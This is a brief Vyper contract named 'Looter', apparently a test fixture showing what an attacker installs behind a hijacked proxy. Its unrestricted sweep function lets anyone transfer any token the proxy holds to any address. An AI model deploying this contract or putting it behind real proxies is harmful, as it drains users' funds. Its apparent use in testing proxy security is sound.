#pragma version 0.4.3
#pragma evm-version cancun
"""
@title Looter: what stands behind a proxy that was taken over
@notice Lets anybody move any token of the proxy.
"""

interface Token:
    def transfer(to: address, amount: uint256) -> bool: nonpayable

singleton: address


@external
def sweep(token: address, to: address, amount: uint256):
    extcall Token(token).transfer(to, amount)
